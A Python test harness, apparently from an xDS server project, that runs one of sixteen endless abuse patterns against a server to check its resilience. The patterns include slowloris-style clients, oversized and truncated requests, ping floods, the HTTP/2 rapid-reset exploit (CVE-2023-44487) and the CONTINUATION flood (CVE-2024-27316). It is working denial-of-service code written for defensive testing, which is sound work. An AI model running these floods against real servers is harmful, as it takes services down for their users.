"""One kind of abuse of an xDS server, for as long as it runs: `python -m … KIND HOST:PORT CLUSTER`.

Each kind is a generator without end; each repetition writes a line `round N`. CLUSTER is an
assignment that the server has and changes.
"""

import itertools
import random
import struct
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

from envoy.config.core.v3.base_pb2 import Node
from envoy.service.discovery.v3.discovery_pb2 import DeltaDiscoveryRequest, DiscoveryRequest

from steerway.testing.ads_client import AdsClient, Service, StreamEndedError
from steerway.translate.xds.type_url import ENDPOINT, LISTENER
from testbed.client.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    RawConnection,
    connect,
    frame,
    grpc_message,
    opening,
)

SOTW = Service.ADS.method("Stream")
CANCEL = 8
SOURCE = "127.0.0.2"
"""Connections are bounded per address, and the oldest pending one of an address is closed for its next: those of the
abuse have an address of their own. (gRPC clients cannot choose theirs; they open one connection at a time.)"""
_READERS = 200
_DATA = 16 << 10
_rng = random.Random(7)


def never_read(address: str, cluster: str) -> Iterator[None]:
    """200 clients subscribe, and read nothing at all."""
    connections = [RawConnection(address, SOURCE) for _ in range(_READERS)]
    for connection in connections:
        connection.open(1, SOTW)
        connection.send(1, _request(cluster))
    yield
    threading.Event().wait()


def requests(address: str, cluster: str) -> Iterator[None]:
    """Requests as fast as the rules allow."""
    with RawConnection(address, SOURCE) as raw:
        raw.open(1, SOTW)
        while True:
            for _ in range(1000):
                raw.send_in_window(1, _request(cluster))
            yield


def slow(address: str, cluster: str) -> Iterator[None]:
    """200 clients, each of which sends a byte of its request now and then, and begins anew before the last one."""
    request = _request(cluster)
    while True:
        with ExitStack() as open_:
            connections = [open_.enter_context(RawConnection(address, SOURCE)) for _ in range(200)]
            for connection in connections:
                connection.open(1, SOTW)
            for at in range(len(request) - 1):
                for connection in connections:
                    connection.send(1, request[at : at + 1])
                yield


def halves(address: str, _cluster: str) -> Iterator[None]:
    """Requests of 4 MiB that stay without their last bytes, on 100 streams of each connection."""
    retained = []
    while True:
        raw = RawConnection(address, SOURCE)
        retained.append(raw)
        for stream in range(1, 200, 2):
            raw.open(stream, SOTW)
            raw.send_in_window(stream, struct.pack(">BI", 0, 4 << 20))
            for _ in range(32):
                raw.send_in_window(stream, b"\0" * _DATA)
            yield


def large_nodes(address: str, cluster: str) -> Iterator[None]:
    """1,000 streams whose Node has 250 kB of metadata, a thousand fields and a list of extensions, kept open."""
    node = Node(id="abuse")
    node.metadata.update({f"key-{number}": "v" * 100 for number in range(1000)})
    for _ in range(1000):
        node.extensions.add(name="x" * 100)
    request = grpc_message(DiscoveryRequest(node=node, type_url=ENDPOINT, resource_names=[cluster]))
    while True:
        with ExitStack() as open_:
            for _ in range(10):
                raw = open_.enter_context(RawConnection(address, SOURCE))
                for stream in range(1, 200, 2):
                    raw.open(stream, SOTW)
                    for at in range(0, len(request), _DATA):
                        raw.send_in_window(stream, request[at : at + _DATA])
                yield


def noise(address: str, _cluster: str) -> Iterator[None]:
    """Random bytes: instead of a preface, of frames, and of the body of a frame."""
    while True:
        for beginning in (
            b"",
            PREFACE,
            PREFACE + frame(SETTINGS, 0, 0),
            PREFACE + b"\0\x40\0\x01\x04\0\0\0\x01",
        ):
            with connect(address, SOURCE) as client:
                client.sendall(beginning + _rng.randbytes(1 << 16))
        yield


def truncated(address: str, cluster: str) -> Iterator[None]:
    """A good beginning that is cut off anywhere."""
    whole = PREFACE + frame(SETTINGS, 0, 0) + opening(1, SOTW) + frame(DATA, 0, 1, _request(cluster))
    while True:
        for _ in range(20):
            with connect(address, SOURCE) as client:
                client.sendall(whole[: _rng.randrange(len(whole))])
        yield


def resets(address: str, cluster: str) -> Iterator[None]:
    """Streams that are reset as soon as they are opened (CVE-2023-44487), over and over."""
    while True:
        with RawConnection(address, SOURCE) as raw:
            for stream in range(1, 20_001, 2):
                reset = frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                raw.write(opening(stream, SOTW) + frame(DATA, 0, stream, _request(cluster)) + reset)
        yield


def names(address: str, _cluster: str) -> Iterator[None]:
    """100,000 names on a stream, ever new ones."""
    count = 0
    while True:
        with AdsClient(address) as client:
            stream = client.delta()
            stream.send(
                DeltaDiscoveryRequest(
                    node=Node(id="names"),
                    type_url=ENDPOINT,
                    resource_names_subscribe=[f"{count}-{number}" for number in range(100_000)],
                )
            )
            with suppress(StreamEndedError):
                stream.read()
        count += 1
        yield


def new_names(address: str, _cluster: str) -> Iterator[None]:
    """One stream whose names are new with each request: all of them are demanded."""
    with AdsClient(address) as client:
        stream = client.sotw()
        count = 0
        while True:
            stream.request(ENDPOINT, *(f"new-{count}-{number}" for number in range(1000)))
            count += 1
            yield


def absent(address: str, _cluster: str) -> Iterator[None]:
    """Names of Services that do not exist, on as many streams as it takes."""
    count = 0
    while True:
        with AdsClient(address) as client:
            streams = [client.delta() for _ in range(4)]
            for number, stream in enumerate(streams):
                names = (f"s{name}-{number}-{count}.nowhere:80" for name in range(20_000))
                stream.request(LISTENER, *names)
            for stream in streams:
                with suppress(StreamEndedError, TimeoutError):
                    while True:
                        stream.read(1)
        count += 1
        yield


def long_names(address: str, _cluster: str) -> Iterator[None]:
    """Names of 1 MB."""
    while True:
        with AdsClient(address) as client:
            stream = client.sotw()
            stream.request(ENDPOINT, *(letter * 1_000_000 for letter in "abc"))
            with suppress(StreamEndedError):
                stream.read()
        yield


def nacks(address: str, cluster: str) -> Iterator[None]:
    """Asks for a resource once more and refuses it at length, again and again."""
    with AdsClient(address) as client:
        stream = client.delta()
        while True:
            for _ in range(100):
                stream.request(ENDPOINT, cluster)
                stream.nack(stream.read(), "no\n" * 3000)
            yield


def pings(address: str, _cluster: str) -> Iterator[None]:
    """Nothing but pings."""
    while True:
        with RawConnection(address, SOURCE) as raw:
            raw.write(frame(PING, 0, 0, b"pingpong") * 20_000)
        yield


def headers(address: str, _cluster: str) -> Iterator[None]:
    """Headers without an end (CVE-2024-27316), and ever more of them."""
    field = b"\0\x04name\x7f\x81\x1e" + b"v" * 4000
    while True:
        with RawConnection(address, SOURCE) as raw:
            raw.write(frame(HEADERS, 0, 1, field) + frame(CONTINUATION, 0, 1, field) * 1000)
        with RawConnection(address, SOURCE) as raw:
            for stream in range(1, 1001, 2):
                raw.write(frame(HEADERS, END_HEADERS, stream, field * 4))
        yield


def connections(address: str, _cluster: str) -> Iterator[None]:
    """Connections that end after the preface."""
    while True:
        for _ in range(200):
            with connect(address, SOURCE) as client:
                client.sendall(PREFACE + frame(SETTINGS, 0, 0))
        yield


KINDS: dict[str, Callable[[str, str], Iterator[None]]] = {
    kind.__name__: kind
    for kind in (
        never_read,
        requests,
        slow,
        halves,
        large_nodes,
        noise,
        truncated,
        resets,
        names,
        new_names,
        absent,
        long_names,
        nacks,
        pings,
        headers,
        connections,
    )
}


def _request(name: str) -> bytes:
    return grpc_message(DiscoveryRequest(node=Node(id="abuse"), type_url=ENDPOINT, resource_names=[name]))


def _main(kind: str, address: str, cluster: str) -> None:
    rounds = itertools.count(1)
    while True:
        with suppress(ConnectionError, TimeoutError):
            for _ in KINDS[kind](address, cluster):
                print("round", next(rounds), flush=True)
        # Being cut off in the middle is what the server should do.
        print("round", next(rounds), flush=True)


if __name__ == "__main__":
    _main(*sys.argv[1:])
